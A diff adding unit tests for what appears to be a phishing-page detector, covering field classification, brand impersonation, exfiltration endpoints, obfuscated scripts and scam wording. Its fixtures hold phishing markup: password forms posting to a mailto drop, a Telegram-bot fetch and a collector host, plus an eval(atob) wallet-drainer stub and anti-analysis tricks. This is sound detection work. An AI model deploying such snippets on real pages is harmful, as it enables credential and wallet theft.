@@ -1,0 +1,318 @@
+import { describe, expect, it } from "vitest";
+import { buildContext } from "../context.js";
+import { disguisedPassword, fieldKind } from "../fields.js";
+import type { PageField } from "../page.js";
+import { readHtml } from "../page.js";
+import { savedCapture } from "../testing/fixture-scan.js";
+import { analyzeContentAgent } from "./index.js";
+import { analyzeScripts } from "./scripts.js";
+import { normalize, rewardIn, urgencyIn } from "./wording.js";
+
+function content(url: string, body: string, title = "Page") {
+  const html = `<!DOCTYPE html><html lang="en"><head><title>${title}</title></head><body>${body}</body></html>`;
+  return analyzeContentAgent(buildContext(savedCapture(url, html), { rankLookup: false }));
+}
+
+const codes = (out: { findings: Array<{ finding_id: string }> }) => out.findings.map((f) => f.finding_id);
+
+function field(partial: Partial<PageField>): PageField {
+  return {
+    tag: "input",
+    type: "text",
+    name: "",
+    id: "",
+    autocomplete: "",
+    placeholder: "",
+    label: "",
+    before: "",
+    inputmode: "",
+    maxlength: null,
+    value: "",
+    form: 0,
+    visible: true,
+    ...partial,
+  };
+}
+
+describe("form fields", () => {
+  it.each([
+    [{ type: "password", name: "pass" }, "password"],
+    [{ name: "login_password", placeholder: "Password" }, "password"],
+    [{ autocomplete: "cc-number", name: "x1" }, "card_number"],
+    [{ name: "cardNumber" }, "card_number"],
+    [{ name: "cc_cvv", type: "password", maxlength: 4 }, "card_cvv"],
+    [{ label: "Expiry (MM/YY)", name: "cc_exp" }, "card_expiry"],
+    [{ label: "Card PIN", type: "password", maxlength: 4, name: "pin" }, "pin"],
+    [{ label: "PIN code", name: "zip", maxlength: 6 }, "personal"],
+    [{ label: "Social Security Number", name: "ssn" }, "ssn"],
+    [{ tag: "textarea", type: "textarea", placeholder: "Enter your 12-word recovery phrase" }, "seed"],
+    [{ name: "otp", placeholder: "6-digit code", maxlength: 6 }, "otp"],
+    [{ type: "email", name: "email" }, "email"],
+    [{ name: "q", type: "search" }, "other"],
+    [{ label: "Kartennummer", name: "kn" }, "card_number"],
+    [{ label: "Mot de passe", name: "mdp" }, "password"],
+  ] as const)("%o is %s", (partial, kind) => {
+    expect(fieldKind(field(partial))).toBe(kind);
+  });
+
+  it("sees through disguised password captions", () => {
+    for (const caption of ["PASSW0RD *", "Passvvord *", "Pass****rd"]) {
+      expect(disguisedPassword(field({ label: caption }))).toBe(true);
+      expect(fieldKind(field({ label: caption }))).toBe("password");
+    }
+    expect(disguisedPassword(field({ label: "Password" }))).toBe(false);
+    expect(disguisedPassword(field({ label: "Passport number" }))).toBe(false);
+  });
+
+  it("reads labels, placeholders and the caption before a field", () => {
+    const page = readHtml(
+      '<form><label for="a">Card number</label><input id="a" name="f1"><div>CVV</div><input name="f2"></form>',
+      "https://x.example/",
+    );
+    expect(page.fields.map(fieldKind)).toEqual(["card_number", "card_cvv"]);
+  });
+});
+
+describe("brand claims", () => {
+  it("a brand named as the page's identity, on a domain it does not own", () => {
+    const out = content(
+      "https://secure-login-account.example/",
+      '<p class="wm">PayPal</p><form action="login.php"><input type="password" name="p"></form><small>Copyright © 1999-2026 PayPal. All rights reserved.</small>',
+      "PayPal: Log in",
+    );
+    expect(out.signals.claims[0]).toMatchObject({ brand: "PayPal" });
+    expect(out.signals.claims[0]?.places).toEqual(expect.arrayContaining(["title", "copyright", "wordmark"]));
+    expect(codes(out)).toEqual(expect.arrayContaining(["CON-020", "CON-021"]));
+  });
+
+  it("not on the brand's own domain", () => {
+    const out = content(
+      "https://www.paypal.com/signin",
+      '<form><input type="password" name="p"></form>',
+      "PayPal: Log in",
+    );
+    expect(out.signals.claims).toEqual([]);
+    expect(codes(out)).not.toContain("CON-021");
+  });
+
+  it("not for sign-in-with buttons, payment logos, field concepts or articles about the brand", () => {
+    const sso = content(
+      "https://app.tallyframe.io/login",
+      '<form action="/s"><input type="password" name="p"></form><button>Sign in with Google</button><button>Continue with Apple</button>',
+      "Sign in | Tallyframe",
+    );
+    expect(sso.signals.claims).toEqual([]);
+    const strip = content(
+      "https://shop.example/",
+      '<img alt="Visa"><img alt="Mastercard"><img alt="PayPal"><h1>Oak board</h1><p>€49.00</p>',
+      "Oak board",
+    );
+    expect(strip.signals.claims).toEqual([]);
+    const ssn = content(
+      "https://cu.example/apply",
+      '<form action="/apply"><label>Social Security Number<input name="ssn"></label></form>',
+    );
+    expect(ssn.signals.claims).toEqual([]);
+    const tag = content(
+      "https://www.techglimmer.net/tag/microsoft/",
+      "<h1>Microsoft</h1><p>News.</p>",
+      "Microsoft | TechGlimmer",
+    );
+    expect(tag.signals.claims).toEqual([]);
+  });
+
+  it("not for self-hosted products posting to their own host", () => {
+    const owa = content(
+      "https://mail.kesslerbau.de/owa/auth/logon.aspx",
+      '<form action="/owa/auth.owa" method="post"><div>Outlook</div><input name="username"><input type="password" name="password"></form>',
+      "Outlook",
+    );
+    expect(owa.signals.claims).toEqual([]);
+    const cloned = content(
+      "https://mail-verify.example/owa/",
+      '<form action="https://collector.example/next.php" method="post"><div>Outlook</div><input type="password" name="password"></form>',
+      "Outlook",
+    );
+    expect(cloned.signals.claims[0]?.brand).toBe("Microsoft");
+  });
+
+  it("a host spelling a near miss of the claimed brand adds to the claim", () => {
+    const out = content(
+      "https://metmmasklog.webflow.io/",
+      "<p>Connect to the decentralized web.</p>",
+      "MetaMask® Łøgin",
+    );
+    expect(out.signals.claims[0]).toMatchObject({ brand: "MetaMask" });
+    expect(out.signals.claims[0]?.places).toEqual(expect.arrayContaining(["title", "address"]));
+    const claim = out.findings.find((f) => f.finding_id === "CON-020");
+    expect(claim?.severity).toBe("High");
+  });
+});
+
+describe("what legitimate pages look like", () => {
+  it("a payment option named PayPal at a checkout is no PayPal claim", () => {
+    const out = content(
+      "https://www.voltcrate.com/checkout",
+      '<h1>Payment</h1><label><input type="radio" name="m" value="card"> Card</label><label><input type="radio" name="m" value="pp"> PayPal</label><form action="/pay"><label>Card number<input autocomplete="cc-number" name="cc"></label><label>CVC<input autocomplete="cc-csc" name="cvc"></label></form>',
+      "Checkout | Voltcrate",
+    );
+    expect(out.signals.claims).toEqual([]);
+    expect(out.findings.find((f) => f.finding_id === "CON-002")?.severity).toBe("Low");
+  });
+
+  it("a gift card's number and PIN are no payment card's", () => {
+    const out = content(
+      "https://www.larkspurbooks.com/gift-cards",
+      '<h1>Gift cards</h1><p>Check your gift card balance.</p><form action="/balance"><label>Card number<input name="card"></label><label>PIN<input type="password" name="pin" maxlength="4"></label></form>',
+    );
+    expect(out.findings.find((f) => f.finding_id === "CON-003")?.severity).toBe("Low");
+    expect(out.findings.find((f) => f.finding_id === "CON-002")?.severity).toBe("Low");
+  });
+
+  it("a government service on a government suffix is not impersonating the government", () => {
+    const out = content(
+      "https://www.access.service.gov.uk/login",
+      '<p>GOV.UK</p><form action="/login"><input type="email" name="e"><input type="password" name="p"></form>',
+      "GOV.UK",
+    );
+    expect(out.signals.claims).toEqual([]);
+    expect(codes(out)).not.toContain("CON-013");
+  });
+
+  it("a page that names itself is about a brand, not posing as it", () => {
+    const out = content(
+      "https://www.swiftpost-parcels.co.uk/",
+      "<h1>SwiftPost</h1><p>Parcel redelivery.</p>",
+      "SwiftPost – Redelivery",
+    );
+    expect(out.signals.selfNamed).toBe(true);
+  });
+
+  it("packed analytics code alone weighs little", () => {
+    const out = content(
+      "https://www.bottegaferrante.it/",
+      "<h1>Olio</h1><p>Olio extravergine di oliva dal nostro frantoio.</p><script>eval(function(p,a,c,k,e,d){return p}('x',1,1,''.split('|'),0,{}))</script>",
+    );
+    expect(out.findings.find((f) => f.finding_id === "CON-030")?.severity).toBe("Low");
+  });
+});
+
+describe("where secrets go", () => {
+  it("forms and scripts handing secrets to mail, bots and collectors", () => {
+    const mailto = content(
+      "https://x.example/",
+      '<form action="mailto:drop@example.com"><input type="password" name="p"></form>',
+    );
+    expect(mailto.findings.find((f) => f.finding_id === "CON-011")?.severity).toBe("Critical");
+    const bot = content(
+      "https://x.example/",
+      '<form><input type="password" name="p"></form><script>fetch("https://api.telegram.org/bot123:abc/sendMessage",{method:"POST"})</script>',
+    );
+    expect(bot.signals.exfil[0]).toMatchObject({ kind: "telegram", where: "script", sensitive: true });
+    const contact = content(
+      "https://dentist.example/",
+      '<form action="https://formspree.io/f/abc"><input name="name"><input type="email" name="email"></form>',
+    );
+    expect(contact.findings.find((f) => f.finding_id === "CON-011")?.severity).toBe("Low");
+  });
+
+  it("a password collected by a site builder's form service", () => {
+    const out = content(
+      "https://bt-server.webflow.io/",
+      '<form><input type="email" name="email"><input name="name" placeholder="Pass****rd"></form><div>Thank you! Your submission has been received!</div>',
+    );
+    expect(codes(out)).toEqual(expect.arrayContaining(["CON-014", "CON-011", "CON-013"]));
+  });
+});
+
+describe("scripts", () => {
+  it("decodes what eval(atob(…)) hides", () => {
+    const payload = Buffer.from('var k=["eth_requestAccounts","setApprovalForAll"];').toString("base64");
+    const facts = analyzeScripts([`eval(atob("${payload}"))`], []);
+    expect(facts.obfuscation).toContain("eval of decoded code");
+    expect(facts.drainApis).toContain("setApprovalForAll");
+    expect(facts.connectApis).toContain("eth_requestaccounts");
+  });
+
+  it("recognizes anti-analysis tricks", () => {
+    const facts = analyzeScripts(
+      ["setInterval(function(){debugger;},100); if(navigator.webdriver){location='about:blank'}"],
+      ["oncontextmenu=return false"],
+    );
+    expect(facts.antiAnalysis).toEqual(
+      expect.arrayContaining(["debugger trap", "bot or headless-browser check", "right-click disabled"]),
+    );
+  });
+
+  it("leaves ordinary scripts alone", () => {
+    const facts = analyzeScripts(
+      [
+        'window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag("js",new Date());',
+      ],
+      [],
+    );
+    expect(facts).toMatchObject({ obfuscation: [], antiAnalysis: [], exfil: [], blob: null });
+  });
+});
+
+describe("wording", () => {
+  it.each([
+    [
+      "Your account has been limited. Confirm your information within 24 hours.",
+      ["account restricted", "deadline", "verify now"],
+    ],
+    [
+      "Ihr Konto wurde gesperrt. Bitte bestätigen Sie Ihre Daten innerhalb von 24 Stunden.",
+      ["account restricted", "deadline", "verify now"],
+    ],
+    [
+      "Votre compte a été suspendu suite à une activité suspecte.",
+      ["account restricted", "unusual activity"],
+    ],
+    ["Su cuenta ha sido bloqueada. Verifique su identidad.", ["account restricted", "verify now"]],
+    ["Your package is on hold: unpaid shipping fee of $1.99.", ["payment due"]],
+    ["Fresh bread every morning, baked with local flour.", []],
+  ])("%s", (text, kinds) => {
+    expect(urgencyIn(normalize(text))).toEqual(expect.arrayContaining(kinds));
+    if (kinds.length === 0) expect(urgencyIn(normalize(text))).toEqual([]);
+  });
+
+  it("rewards", () => {
+    expect(rewardIn(normalize("Congratulations! You have won an iPhone. Claim your prize now."))).toEqual(
+      expect.arrayContaining(["congratulations", "prize"]),
+    );
+  });
+});
+
+describe("shops and wallets", () => {
+  it("a fake shop needs implausible discounts and other signs together", () => {
+    const fake = content(
+      "https://luxe-deals.example/",
+      '<p>-91%</p><p>$2,450.00 $219.00</p><a href="/checkout">BUY NOW</a><p>-88%</p><p>$980.00 $119.00</p><p>Only 2 left!</p><p>Contact: luxe.support@gmail.com</p>',
+    );
+    expect(fake.signals.fakeShop).toBe(true);
+    const sale = content(
+      "https://outlet.example/sale",
+      '<p>Up to 70% off.</p><p>€89.00 €29.00</p><button>Add to cart</button><p>We accept Visa and PayPal.</p><a href="/imprint">Imprint</a>',
+    );
+    expect(sale.signals.fakeShop).toBe(false);
+  });
+
+  it("a seed-phrase form and a wallet-connect lure", () => {
+    const seed = content(
+      "https://wallet-sync.example/",
+      '<form><textarea name="m" placeholder="Enter your 12-word recovery phrase"></textarea></form>',
+    );
+    expect(codes(seed)).toContain("CON-005");
+    const lure = content(
+      "https://claim.example/",
+      "<h1>Season 2 airdrop</h1><button>Connect Wallet</button><p>Check eligibility</p>",
+    );
+    expect(codes(lure)).toContain("CON-061");
+    const article = content(
+      "https://news.example/airdrops",
+      "<h1>Airdrop season</h1><p>Never connect your wallet to a site you reached from a message.</p>",
+    );
+    expect(codes(article)).not.toContain("CON-061");
+  });
+});
